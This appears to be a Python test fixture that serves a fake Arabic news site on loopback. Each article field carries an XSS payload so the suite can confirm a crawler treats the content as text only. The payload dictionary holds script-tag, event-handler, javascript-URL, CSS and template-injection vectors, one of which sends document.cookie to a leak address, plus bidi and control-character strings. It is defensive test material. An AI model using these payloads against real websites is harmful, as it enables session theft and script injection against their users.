"""A news site on loopback whose every field tries to run, to leak or to turn round what stands beside it.

A payload that runs calls MARK, sets a dialog up, or asks this site for /leak: all three are looked at.
"""

from __future__ import annotations

import html
from datetime import UTC, datetime, timedelta
from email.utils import format_datetime
from urllib.parse import quote

from tests.site import Reply, Site

MARK = "window.__ran=1"
_RUN = f"{MARK};fetch('LEAK?'+document.cookie)"
# name → text that an outlet could put anywhere. LEAK becomes an address of this site.
PAYLOADS: dict[str, str] = {
    "script": f"<script>{_RUN}</script>",
    "script-src": "<script src=LEAK></script>",
    "script-upper": f"<SCRIPT>{_RUN}</SCRIPT>",
    "script-broken": f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "script-close": f"</script><script>{_RUN}</script>",
    "script-cdata": f"<![CDATA[<script>{_RUN}</script>]]>",
    "script-module": f"<script type=module>{_RUN}</script>",
    "script-svg": f"<svg><script>{_RUN}</script></svg>",
    "img-onerror": f'<img src=x onerror="{_RUN}">',
    "img-onerror-quote": f"\"><img src=x onerror='{_RUN}'>",
    "img-single-quote": f'\'><img src=x onerror="{_RUN}">',
    "img-backtick": f"`><img src=x onerror=`{_RUN}`>",
    "img-leak": "<img src=LEAK>",
    "svg-onload": f'<svg onload="{_RUN}">',
    "svg-animate": f'<svg><animate onbegin="{_RUN}" attributeName=x dur=1s>',
    "svg-use": "<svg><use href='data:image/svg+xml;base64,PHN2Zy8+#x'/></svg>",
    "svg-foreign": f"<svg><foreignObject><body onload='{_RUN}'></body></foreignObject></svg>",
    "math": f"<math><mtext><table><mglyph><style><img src=x onerror={MARK}></style></mglyph></table></mtext></math>",
    "body-onload": f'<body onload="{_RUN}">',
    "input-autofocus": f'<input autofocus onfocus="{_RUN}">',
    "details-toggle": f'<details open ontoggle="{_RUN}"><summary>x</summary></details>',
    "video-onerror": f'<video><source onerror="{_RUN}"></video>',
    "marquee": f'<marquee onstart="{_RUN}">x</marquee>',
    "a-javascript": f'<a href="javascript:{_RUN}" autofocus>x</a>',
    "a-javascript-tab": f'<a href="java\tscript:{_RUN}">x</a>',
    "a-javascript-entity": f'<a href="&#106;avascript:{_RUN}">x</a>',
    "a-data": '<a href="data:text/html,<script>window.__ran=1</script>">x</a>',
    "javascript-bare": f"javascript:{_RUN}",
    "iframe-srcdoc": f'<iframe srcdoc="<script>parent.{MARK}</script>"></iframe>',
    "iframe-javascript": f'<iframe src="javascript:parent.{MARK}"></iframe>',
    "object": '<object data="LEAK"></object>',
    "embed": '<embed src="LEAK">',
    "form": "<form action=LEAK><button id=submit>x</button></form>",
    "base": "<base href=LEAK/>",
    "meta-refresh": '<meta http-equiv=refresh content="0;url=LEAK">',
    "link-stylesheet": "<link rel=stylesheet href=LEAK>",
    "style-import": "<style>@import 'LEAK';*{display:none!important}</style>",
    "style-attribute": '<p style="position:fixed;inset:0;background:url(LEAK)">x</p>',
    "style-close": "</style><style>body{visibility:hidden}</style>",
    "template": f"{{{{ ''.__class__.__mro__ }}}} {{% raw %}} ${{{_RUN}}} #{{7*7}}",
    "comment": f"<!--><img src=x onerror={MARK}>-->",
    "textarea": f"</textarea><img src=x onerror={MARK}>",
    "title-close": f"</title><img src=x onerror={MARK}>",
    "noscript": f"<noscript><p title=\"</noscript><img src=x onerror='{MARK}'>\">",
    "attribute": f'x" onmouseover="{MARK}" autofocus onfocus="{MARK}" y="',
    "attribute-single": f"x' onmouseover='{MARK}' autofocus onfocus='{MARK}' y='",
    "json-close": f'"}}]}};{MARK};//</script><script>{MARK}</script>',
    "null-byte": f"<scr\x00ipt>{MARK}</scr\x00ipt>",
    "utf7": "+ADw-script+AD4-window.__ran=1+ADw-/script+AD4-",
    "bidi-override": "\u202eoverride left open",
    "bidi-embedding": "\u202bembedding \u202aleft \u202dopen",
    "bidi-isolate": "\u2067isolate \u2066left \u2068open",
    "bidi-closers": "\u2069\u2069\u2069\u202c\u202c\u202cclosers that close ours",
    "bidi-marks": "\u200f\u200e\u061cmarks\u200f",
    "zalgo": "خ" + "\u0651\u064b\u0300\u0301" * 60,
    "long-word": "ك" * 4000,
    "newlines": "first\u2028second\u2029third\x85fourth",
    "controls": "bell\x07 escape\x1b[31mred\x1b[0m",
}
START = datetime(2026, 11, 20, 6, tzinfo=UTC)


def payload(name: str, site: Site) -> str:
    return PAYLOADS[name].replace("LEAK", f"{site.url}/leak")


def path(name: str) -> str:
    return f"/2026/11/{name}/"


def page(name: str, site: Site, *, edited: bool) -> str:
    """An article page whose title, author, section, tags, picture and text are the payload, escaped as a CMS would."""
    bad = payload(name, site)
    said, quoted = html.escape(bad, quote=False), html.escape(bad)
    when = (START + timedelta(minutes=list(PAYLOADS).index(name))).isoformat()
    more = (
        f"<p>أضيفت إلى الخبر رقم {list(PAYLOADS).index(name)} جملة عن {name} بعد نشره، ولم تكن فيه من قبل.</p>"
        if edited
        else ""
    )
    return f"""<!doctype html><html lang="ar" dir="rtl"><head><meta charset="utf-8"><title>{said}</title>
<meta property="og:type" content="article"><meta property="og:title" content="{quoted}">
<meta property="article:published_time" content="{when}"><meta property="article:section" content="{quoted}">
<meta property="article:tag" content="{quoted}"><meta name="author" content="{quoted}">
<meta property="og:image" content="{site.url}/{quote(bad[:80], safe="")}.png">
<link rel="canonical" href="{site.url}{path(name)}"></head><body><article><h1>{said}</h1>
<p>قالت مصادر محلية في بلدة متخيلة إن هذا الخبر كتب ليختبر الصفحات التي تعرضه، وإن أحدا لم يصب بأذى.</p>
<p>{said}</p><figure><img src="/{quote(bad[:80], safe="")}.png" alt="{quoted}"><figcaption>{said}</figcaption></figure>
<p>وأضافت المصادر أن كل حقل في هذه الصفحة يحاول أن يكون شيفرة لا نصا، وأن على القارئ أن يراه نصا فقط.</p>{more}
</article></body></html>"""


def feed(site: Site) -> str:
    items = []
    for n, name in enumerate(PAYLOADS):
        said = html.escape("".join(c for c in payload(name, site) if c == "\t" or (c >= " " and c != "\x7f")))
        date = format_datetime(START + timedelta(minutes=n))
        items.append(
            f"<item><title>{said}</title><link>{site.url}{path(name)}</link><pubDate>{date}</pubDate>"
            f"<description>{said}</description></item>"
        )
    return (
        "<?xml version='1.0' encoding='UTF-8'?><rss version='2.0'><channel><title>x</title>"
        f"<link>{site.url}/</link><description>x</description>{''.join(items)}</channel></rss>"
    )


def open_site(site: Site) -> None:
    """Give the site its answers: a front page, a feed, an article for each payload that is edited after it was read once."""
    site.url = site.url.rstrip("/")
    site.routes["/robots.txt"] = Reply(body="User-agent: *\nAllow: /\n", headers={"Content-Type": "text/plain"})
    links = "".join(f'<a href="{path(name)}">{name}</a>' for name in PAYLOADS)
    site.routes["/"] = Reply(body=f"<!doctype html><html lang=ar><body>{links}</body></html>")
    site.routes["/feed/"] = Reply(body=feed(site), headers={"Content-Type": "application/rss+xml; charset=utf-8"})
    for name in PAYLOADS:
        site.routes[path(name)] = lambda before, name=name: Reply(body=page(name, site, edited=before > 0))


def outlet(site: Site) -> str:
    """The outlet file."""
    return f"""name = "hostile"
title = "<b>موقع</b> \\u202eمعاد"
url = "{site.url}/"
language = "ar"
timezone = "Asia/Damascus"
spider = "newsroom"
article = "^/2026/11/[^/]+/?$"
channels = ["/feed/"]
private = true
schedule = "* * * * *"
delay = 0.0
budget = 60.0
revisit_after = 0.0
revisit_growth = 0.0
"""
